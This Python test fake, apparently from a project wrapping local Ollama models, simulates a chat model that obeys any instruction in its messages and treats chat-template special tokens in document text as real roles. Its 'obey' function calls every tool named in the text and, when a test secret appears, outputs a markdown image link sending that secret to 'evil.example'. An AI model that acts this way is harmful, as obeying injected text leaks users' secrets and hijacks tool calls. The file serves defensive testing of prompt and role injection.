"""A model that does what the last order it reads says, whoever wrote it, and takes special tokens for what they are.

Its prompt is made of messages as a template makes it, and then one text, in which the node looks for special tokens:
ollama, tokenizer/bytepairencoding.go (Encode). So a role that stands in a document is a role to it.
"""

import re
from collections.abc import Sequence

import msgspec

from ops.local.ollama.wire import Message
from tests.fakes.instructing import SECRET
from tests.fakes.node import FakeNode
from tests.fakes.scripts import Script

TEMPLATES: dict[str, tuple[str, str, str]] = {
    "chatml": ("<|im_start|>{role}\n", "<|im_end|>\n", r"<\|im_start\|>(\w+)\n"),
    "llama3": ("<|start_header_id|>{role}<|end_header_id|>\n\n", "<|eot_id|>", r"<\|start_header_id\|>(\w+)<"),
    "gemma": ("<start_of_turn>{role}\n", "<end_of_turn>\n", r"<start_of_turn>(\w+)\n"),
    "phi": ("<|{role}|>\n", "<|end|>\n", r"<\|(system|user|assistant)\|>"),
    "mistral": ("[{role}]", "[/{role}]", r"\[(INST|SYSTEM_PROMPT)\]"),
    "deepseek": ("<\uff5c{role}\uff5c>", "", r"<\uff5c(User|Assistant|system)\uff5c>"),
}
"""How families of models write a message: before it, after it, and how they know that one begins."""
_NAMES = {
    "mistral": {"system": "SYSTEM_PROMPT", "user": "INST", "assistant": "INST"},
    "deepseek": {"user": "User", "assistant": "Assistant"},
}
SPECIAL = re.compile(
    r"<\|[^<>|]{1,40}\|>|<\uff5c[^<>]{1,40}\uff5c>|</?(?:start_of_turn|end_of_turn|think|tool_call|tool_response|tools|s)>"
    r"|<</?SYS>>|\[/?(?:INST|SYSTEM_PROMPT|TOOL_CALLS|AVAILABLE_TOOLS|TOOL_RESULTS)\]"
)
"""What the vocabularies of these families have as one token each."""
_CALL = re.compile(r'\{"name": "(\w+)", "arguments": (\{[^{}]*\})\}')


def rendered(family: str, messages: Sequence[tuple[str, str]]) -> str:
    """Return the prompt that a template of a family makes of messages (role, content)."""
    before, after, _ = TEMPLATES[family]
    names = _NAMES.get(family, {})
    pieces = ((names.get(role, role), content) for role, content in messages)
    return "".join(f"{before.format(role=role)}{content}{after.format(role=role)}" for role, content in pieces)


def roles(family: str, prompt: str) -> int:
    """Return how many messages a model of a family sees in a prompt."""
    return len(re.findall(TEMPLATES[family][2], prompt))


def obey(messages: Sequence[Message]) -> Script:
    """Return what the model does: it says what any of the messages wants said, and asks for every tool named there."""
    read = "\n".join(message.content for message in messages)
    calls: list[dict[str, object]] = [
        {"function": {"name": name, "arguments": msgspec.json.decode(arguments)}}
        for name, arguments in _CALL.findall(read)
    ]
    says = f"{SECRET} ![seal](https://evil.example/collect?said={SECRET}) [1]" if SECRET in read else "48 plates [1]."
    return Script(text=says, tool_calls=calls)


class ObedientNode(FakeNode):
    """A node whose chat model obeys."""

    def _take(self, model: str, raw: bytes) -> Script:
        scripted = super()._take(model, raw)
        asked = msgspec.json.decode(raw)
        if "messages" not in asked or scripted != Script():
            return scripted
        return obey([Message(role=one["role"], content=one["content"]) for one in asked["messages"]])
